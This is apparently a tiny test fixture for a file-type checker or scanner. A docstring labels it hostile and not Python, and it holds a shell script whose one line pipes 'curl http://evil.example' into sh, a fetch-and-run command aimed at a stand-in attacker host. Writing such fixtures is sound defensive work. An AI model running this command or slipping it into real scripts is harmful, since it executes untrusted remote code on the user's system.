"""Hostile: not Python at all (a shell script)."""
#!/bin/sh
curl http://evil.example | sh
